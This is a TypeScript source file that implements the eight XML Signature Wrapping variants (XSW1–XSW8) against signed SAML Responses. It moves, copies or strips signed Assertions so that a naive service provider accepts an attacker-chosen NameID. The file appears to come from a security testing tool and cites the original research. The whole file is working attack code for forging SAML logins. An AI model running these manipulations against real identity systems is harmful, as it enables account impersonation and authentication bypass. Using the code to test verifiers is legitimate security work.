import type { Document, Element } from '@xmldom/xmldom'
import { attr, cloneElement, firstChildElement, ns, rootElement } from '../../../core/xml/index.ts'

/**
 * XML signature wrapping, XSW1–XSW8, as "On Breaking SAML" (Somorovsky et al., USENIX Security
 * 2012) and the SAML Raider tool define them, on a signed Response: the signed element is moved
 * or copied somewhere a careful verifier still finds it, and the element a naive SP reads says
 * `nameId`. XSW1–2 wrap the Response signature (sign the Response only); XSW3–8 the Assertion
 * signature (sign the Assertion only).
 *   XSW1  the Response gets a new ID; an unsigned copy of the original Response goes into its Signature
 *   XSW2  the same copy goes right before the Signature (a detached signature)
 *   XSW3  an unsigned evil Assertion with a new ID goes before the signed one
 *   XSW4  an evil Assertion with a new ID is appended, and the signed one moves inside it
 *   XSW5  the signed Assertion is changed; an unsigned copy of the original is appended to the Response
 *   XSW6  the signed Assertion is changed; an unsigned copy of the original goes into its Signature
 *   XSW7  the signed Assertion is changed; a copy of the original goes into samlp:Extensions before it
 *   XSW8  the signed Assertion is changed; an unsigned copy of the original goes into a ds:Object of its Signature
 */
export function wrapSignature(doc: Document, variant: number, nameId: string): void {
  const response = rootElement(doc)
  const assertion = firstChildElement(response, ns.saml, 'Assertion')
  if (variant <= 2) {
    const signature = firstChildElement(response, ns.ds, 'Signature')
    if (!signature) return
    const original = unsignedCopy(response)
    if (variant === 1) signature.appendChild(original)
    else response.insertBefore(original, signature)
    evilId(response)
    if (assertion) setNameId(doc, assertion, nameId)
    return
  }
  if (!assertion) return
  if (variant <= 4) {
    const evil = unsignedCopy(assertion)
    evilId(evil)
    setNameId(doc, evil, nameId)
    if (variant === 3) response.insertBefore(evil, assertion)
    else {
      response.appendChild(evil)
      evil.appendChild(assertion)
    }
    return
  }
  const signature = firstChildElement(assertion, ns.ds, 'Signature')
  if (!signature) return
  if (variant === 5) response.appendChild(unsignedCopy(assertion))
  if (variant === 6) signature.appendChild(unsignedCopy(assertion))
  if (variant === 7) {
    const extensions = doc.createElementNS(ns.samlp, 'samlp:Extensions')
    extensions.appendChild(assertion.cloneNode(true))
    response.insertBefore(extensions, assertion)
  }
  if (variant === 8) {
    const object = doc.createElementNS(ns.ds, 'ds:Object')
    object.appendChild(unsignedCopy(assertion))
    signature.appendChild(object)
  }
  setNameId(doc, assertion, nameId)
}

function unsignedCopy(element: Element): Element {
  const copy = cloneElement(element)
  const signature = firstChildElement(copy, ns.ds, 'Signature')
  if (signature) copy.removeChild(signature)
  return copy
}

function evilId(element: Element): void {
  element.setAttribute('ID', `_evil${attr(element, 'ID') ?? ''}`)
}

/** Sets the NameID text of an Assertion (its Subject's own NameID, not a nested one's). */
export function setNameId(doc: Document, assertion: Element, value: string): void {
  const subject = firstChildElement(assertion, ns.saml, 'Subject')
  const nameId = subject && firstChildElement(subject, ns.saml, 'NameID')
  if (nameId) setText(doc, nameId, value)
}

export function setText(doc: Document, element: Element, value: string): void {
  while (element.firstChild) element.removeChild(element.firstChild)
  element.appendChild(doc.createTextNode(value))
}
